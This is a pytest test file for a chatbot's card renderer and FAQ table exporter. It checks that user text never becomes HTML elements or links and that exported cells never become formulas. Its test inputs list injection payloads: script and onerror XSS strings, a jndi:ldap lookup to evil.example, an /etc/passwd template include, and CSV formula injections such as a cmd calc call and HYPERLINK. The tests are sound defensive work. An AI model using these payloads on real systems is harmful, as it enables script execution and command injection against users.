"""What people write stays words: in every card on a web page, and in every table that is handed
out."""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from bot.documents import sheet
from bot.faq_files import FaqRow, written
from cards.document import Document, Item, Section, Table
from cards.render import html
from cards.words import Words
from tests.wire.cards_drawn import DRAWN

HOSTILE = (
    "<at id=all></at>", '<at user_id="all">所有人</at>', "@所有人 @all", "]]>", "<!--",
    "</div><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<style>*{}</style>",
    '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "&lt;script&gt;", "{{ 7*7 }}", "#{7*7}",
    "[点我](javascript:alert(1))", "![图](https://evil.example/x.png)", "https://evil.example",
    "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example}", "\u202egnp.exe", "长" * 33_000,
    "\x1b[31m红\x1b]8;;https://e\x07", "零\u200b宽\u200d\ufeff",
)  # fmt: skip


class Seen(HTMLParser):
    """The elements and attributes of a page, and where its links lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: Counter[tuple[str, ...]] = Counter()
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag, *sorted(name for name, _ in attrs)] += 1
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_comment(self, data: str) -> None:
        self.found[("comment",)] += 1


def seen(kind: str, words: str) -> Seen:
    return Seen(html.render(DRAWN[kind](Words("zh"), words), press="/press", anchor="a"))


@pytest.mark.parametrize("kind", DRAWN)
def test_no_word_is_an_element_an_attribute_or_a_link_of_a_page(kind: str) -> None:
    plain = seen(kind, "普通的话")
    allowed = set(plain.found)
    for words in HOSTILE:
        page = seen(kind, words)
        assert set(page.found) <= allowed | FORMATTED, words
        assert not [
            link for link in page.links if re.match(r"(?i)\s*(javascript|data:text|vbscript)", link)
        ]


# What a text that somebody wrote as several lines or with marks may be drawn with.
FORMATTED = {("br",), ("b",), ("strong",), ("li",), ("ul",), ("a", "href", "rel", "target")}


# --- tables --------------------------------------------------------------------------------------

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\t", "\r")
CALLS = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example")', "1+1", "SUM(A1:A9)")
FORMULAS = tuple(f"{sign}{call}" for sign, call in itertools.product(SIGNS, CALLS))
HEAD = ("问题", "答案", "其他问法", "谁能看", "分类", "版本")


def cells(kind: str, content: bytes) -> list[str]:
    if kind == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row]
    book = load_workbook(io.BytesIO(content))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in found} <= {"s", "n"}
    assert not [cell for cell in found if cell.hyperlink]
    return [str(cell.value) for cell in found if cell.value is not None]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_of_an_exported_library_is_a_formula(kind: str) -> None:
    """In whatever column."""
    rows = [FaqRow(n, f, f, (f,), "all", f, f) for n, f in enumerate(FORMULAS, start=1)]
    content = written(kind, HEAD, rows)
    begun = [cell for cell in cells(kind, content) if cell.startswith(tuple("=+-@＝＋－＠\t\r"))]
    assert begun == []


def hostile_document() -> Document:
    """Formulas wherever a document has room for words."""
    rows = tuple((formula, formula) for formula in FORMULAS)
    items = tuple(Item(formula, formula) for formula in FORMULAS)
    return Document(
        FORMULAS[0], FORMULAS[4], tuple((f, f) for f in FORMULAS[:6]),
        (Section(FORMULAS[8], items, FORMULAS[12]),), (Table(FORMULAS[0], FORMULAS[:2], rows),),
        FORMULAS[16],
    )  # fmt: skip


def test_no_cell_of_a_printed_report_is_a_formula() -> None:
    found = cells("xlsx", sheet.printed(hostile_document()))
    assert FORMULAS[1] in found
